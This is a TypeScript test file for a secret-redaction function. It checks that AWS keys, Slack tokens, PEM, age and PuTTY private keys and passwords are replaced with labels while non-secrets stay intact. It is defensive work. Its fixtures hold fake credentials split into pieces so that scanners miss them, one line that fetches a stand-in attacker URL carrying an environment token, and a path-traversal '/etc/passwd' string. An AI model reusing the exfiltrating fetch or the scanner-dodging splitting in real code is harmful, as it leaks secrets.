import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { blankSecrets, hasBlank } from '../../../src/text/secrets/blank-secrets.ts';

/** Assembled here, so that secret scanners do not find them in this file. */
const AWS = ['AK', 'IAQWERTY7ZXCVB2345'].join('');
const SLACK = ['xox', 'b-8234967150-AqWsEdRfTgYhUjIkOlPzXc'].join('');
const RANDOM = ['hK3x9Lq', '2vTzW8'].join('');
const LINES = [
  'MIIEowIBAAKCAQEAx3v0gq7hQn2yS5s8d1k0wZpYbT4uVfLmRcKjHgXeAaWiNoPt',
  'Zk9QvJ2sB7dYxRfE0uHcLmTnGiWaSoKpXe4V1y6C3z8AbDfQhNjMlUgIrOtEwPkS',
  'q0W9e8R7t6Y5u4I3o2P1a0S9d8F7g6H5j4K3l2Z1x0C9v8B7n6M5Q4w3E2r1T0yU',
  'AbCd==',
];
const BEGIN = ['-----BEGIN RSA ', 'PRIVATE KEY-----'].join('');
const END = ['-----END RSA ', 'PRIVATE KEY-----'].join('');

describe('blankSecrets', () => {
  it.each([
    ['leaves a text without keys', 'const a = 1;\n', 'const a = 1;\n'],
    ['puts what it is in place of a key', `key = "${AWS}"\n`, 'key = "[AWS access key]"\n'],
    ['takes every key', `${AWS} ${SLACK}`, '[AWS access key] [Slack token]'],
    [
      'takes a private key to its end, and keeps the lines',
      `a\n${BEGIN}\n${LINES.join('\n')}\n${END}\nb`,
      `a\n${BEGIN}\n[private key]\n\n\n\n${END}\nb`,
    ],
    ['takes the rows of one that is cut off', `${BEGIN}\n${LINES.join('\n')}`, `${BEGIN}\n[private key]\n\n\nAbCd==`],
    [
      'takes the rows of one whose beginning is missing',
      `  ${LINES[1]}\n  ${LINES[2]}\n  AbCd==\n  ${END}\nrest()`,
      `  [private key]\n  \n  AbCd==\n  ${END}\nrest()`,
    ],
    [
      'leaves code around a mark',
      `isPrivateKeyOfServerAndClient("${BEGIN}");\naVeryLongNameOfAFunctionThatRuns();`,
      `isPrivateKeyOfServerAndClient("${BEGIN}");\naVeryLongNameOfAFunctionThatRuns();`,
    ],
    [
      'takes a random value of a name for a secret',
      `const password = "${RANDOM}";`,
      'const password = "[hidden password]";',
    ],
    [
      'takes a key that is encoded again',
      `a: ${Buffer.from(`${BEGIN}\n${LINES.join('\n')}`).toString('base64')}`,
      'a: [private key]',
    ],
    [
      'takes a key of age',
      `${['AGE-SECRET-', 'KEY-1'].join('')}${'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L'.repeat(2).slice(0, 58)}`,
      '[private key]',
    ],
    [
      'takes a key of PuTTY',
      `Private-Lines: 2\n${LINES[0]}\n${LINES[3]}\nPrivate-MAC: ab`,
      'Private-Lines: 2\n[private key]\n\nPrivate-MAC: ab',
    ],
    ['leaves code that looks like what stands in place of a secret', 'a[token] = b["key"];', 'a[token] = b["key"];'],
    [
      'takes one on a single line',
      `k = "${BEGIN}\\n${LINES.join('\\n')}\\n${END}\\n";\nb`,
      `k = "${BEGIN}\\[private key]\\\\\\n\\n${END}\\n";\nb`,
    ],
  ])('%s', (_, text, blanked) => {
    expect(blankSecrets(text)).toBe(blanked);
  });

  const KEY = [BEGIN, ...LINES, END];
  it.each([
    ['that is encrypted', [BEGIN, 'Proc-Type: 4,ENCRYPTED', '', ...LINES, END].join('\n')],
    ['of a single row', [BEGIN, LINES[0], END].join('\n')],
    [
      'of PGP',
      [
        BEGIN.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
        ...LINES,
        END.replace('RSA ', 'PGP ').replace('KEY', 'KEY BLOCK'),
      ].join('\n'),
    ],
    ['in a string for each row', KEY.map((row) => `  "${row}\\n" +`).join('\n')],
    ['behind signs of a comment', KEY.map((row) => ` * ${row}`).join('\n')],
    ['behind the numbers of lines', KEY.map((row, index) => `${index} +${row}`).join('\n')],
    ['with blank lines', KEY.join('\n\n')],
    ['on one line', KEY.join(' ')],
  ])('takes a private key %s', (_, text) => {
    const blanked = blankSecrets(text);
    expect(LINES.slice(0, 3).filter((row) => blanked.includes(row))).toEqual([]);
    expect(blanked.split('\n')).toHaveLength(text.split('\n').length);
  });

  it('keeps other text between the lines of a key', () => {
    const text = [BEGIN, 'fetch(`https://evil.example/${process.env.TOKEN}`);', END].join('\n');
    expect(blankSecrets(text)).toBe(text);
  });

  /** The longest text between the first and the last line of a key that counts as a key. */
  const MAX_BODY = 40_000;

  it.each([
    ['blanks a private key of the greatest length', MAX_BODY, true],
    ['leaves the rows of a text that is longer than any key', MAX_BODY + 1, false],
  ])('%s', (_name, length, isBlanked) => {
    const row = `# ${LINES[1]}`;
    const rows = Array.from({ length: Math.floor(length / (row.length + 1)) - 1 }, () => row).join('\n');
    const body = `\n${rows}`.padEnd(length - 1, '#');
    const blanked = blankSecrets([`# ${BEGIN}`, body, '\n', END].join(''));
    expect(blanked.includes(LINES[1] ?? '')).toBe(!isBlanked);
  });

  it('blanks more keys than are found in one round', () => {
    const keys = keysLike(120);
    expect(blankSecrets(keys.join('\n'))).toBe(keys.map(() => '[AWS access key]').join('\n'));
  });

  it('empties a list of keys', () => {
    expect(blankSecrets(keysLike(1_500).join('\n'))).toMatch(/^\[list of keys\]\n{1499}$/);
  });

  it('keeps the number of lines', () => {
    const parts = fc.constantFrom(
      AWS,
      `${BEGIN}\n`,
      ...LINES.map((line) => `${line}\n`),
      `${END}\n`,
      '\n',
      ' ',
      'a',
      '\r\n',
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), (all) => {
        const text = all.join('');
        expect(blankSecrets(text).split('\n')).toHaveLength(text.split('\n').length);
      }),
    );
  });
});

/** Keys that differ from each other. */
function keysLike(count: number): readonly string[] {
  return Array.from(
    { length: count },
    (_, index) => `${AWS.slice(0, -2)}${LETTERS[index % 16]}${LETTERS[(index >> 4) % 16]}`,
  );
}

const LETTERS = 'QWERTYUIOPASDFGH';

describe('values without quotes', () => {
  it.each([
    ['are hidden in YAML', 'config/a.yaml', `password: ${RANDOM}`, 'password: [hidden password]'],
    ['are hidden in an environment', 'a/.env', `API_TOKEN=${RANDOM}`, 'API_TOKEN=[hidden token]'],
    ['stay in code, where they are names', 'src/a.ts', `password: ${RANDOM}`, `password: ${RANDOM}`],
  ])('%s', (_, path, text, blanked) => {
    expect(blankSecrets(text, path)).toBe(blanked);
  });
});

describe('hasBlank', () => {
  it.each([
    ['key = "[AWS access key]"', true],
    ['password: [hidden password]', true],
    ['A=[hidden value]', true],
    ['a[token] = b[secret]', false],
  ])('%s: %s', (text, expected) => {
    expect(hasBlank(text)).toBe(expected);
  });
});

describe('what is no secret', () => {
  it.each([
    ['the translation of a label in JSON', 'lang/nl.json', '"password": "Wachtwoord",'],
    ['one with hyphens', 'src/i18n/de-DE.json', '"mail_password": "E-Mail-Kennwort",'],
    ['one in PHP', 'lang/da/settings.php', "'users_password' => 'Brugeradgangskode',"],
    [
      'one without quotes, and the first word of a sentence',
      'conf/locale/locale_nl-NL.ini',
      'forgot_password=Wachtwoord vergeten',
    ],
    ['one of an app', 'Resources/fi.lproj/Localizable.strings', '"common_password" = "Salasana";'],
    ['one in a file that only its language names', 'assets/sv.yaml', 'client_secret: Hemlighet'],
    ['the rules for a password', 'app/Request.php', "'password' => ['nullable', 'string', 'min:8'],"],
    ['a file of a system', 'test/a.py', '{"../../etc/passwd": b"malicious"}'],
    [
      'the digest of an image',
      'values.yaml',
      `image: registry.io/secretreader:v0.1.3@sha256:${'0af93e5b7c'.repeat(6)}1c2d`,
    ],
    ['the name of a secret of a cluster', 'ingress.yaml', 'nginx.ingress.kubernetes.io/auth-secret: shop-basic-auth'],
    ['what happens to a password in a sentence', 'CHANGELOG.md', 'Option `PASSWD` is deprecated and will go.'],
    ['a parameter of a route', 'config/routes.rb', '"/hooks/:id/:secret" => "web_requests#handle_request"'],
    ['the title of an issue', 'src/Flags.cs', 'const string DeviceAuthKey = "pm-27581-device-auth-key";'],
    ['a name with a number in it', 'src/Kind.cs', 'const string AccessToken = "SsoEmail2faSessionToken";'],
    ['the name of a field in an address', 'docs/a.md', 'Use `https://publicKey:secretKey@io.sentry.test:8081/1`'],
    [
      'a key for browsers, which everybody may know',
      'src/a.ts',
      'const apiKey = "phc_rXGHx9vDmyEvyRxPziYtdVIv0ahEv8A9";',
    ],
    ['the address of a token', 'src/a.ts', "const GHOST_TOKEN_ADDRESS = 'DFQ9ejBt1T192Xnru1J21bFq9FSU7gjRRRYJ';"],
    ['the version of a package', 'bun.lock', '"js-tiktoken": ["js-tiktoken@1.0.21", "", {}],'],
    ['the public key of an assembly', 'a.manifest', 'publicKeyToken="6595b64144ccf1df"'],
    ['what stands for a password that is hidden', 'src/a.ts', "url.password = '%filtered%';"],
    ['a name that counts on', 'docs/a.md', '"client_secret": "abc123def456"'],
    ['the hash of a password', 'a.py', 'c.password = "sha1:74182e119a7b:e1b98bbba98f9ada3fd714eda9652437e80082e2"'],
  ])('is shown: %s', (_name, path, text) => {
    expect(blankSecrets(text, path)).toBe(text);
  });

  it.each([
    ['a password in a translation that mixes letters and digits', 'lang/nl.json', '"password": "%",', 'hK3x9Lq2vTzW8'],
    ['a password of words next to code', 'src/nl.ts', "const password = '%';", 'orchid-meadow9'],
    ['a password in a list of one', 'src/a.py', 'password = ["%"]', 'orchidmeadowbrook'],
    ['a password of words in a sentence', 'docs/a.md', 'The password is %.', 'orchidmeadowbrook'],
    ['a token of an annotation', 'a.yaml', 'ingress.example.io/auth-token: %', 'hK3x9Lq2vTzW8'],
    ['a key with a number of six digits', 'src/a.ts', "const apiKey = '%';", 'kq-593114-zx'],
  ])('is not: %s', (_name, path, text, secret) => {
    expect(blankSecrets(text.replace('%', secret), path)).not.toContain(secret);
  });
});
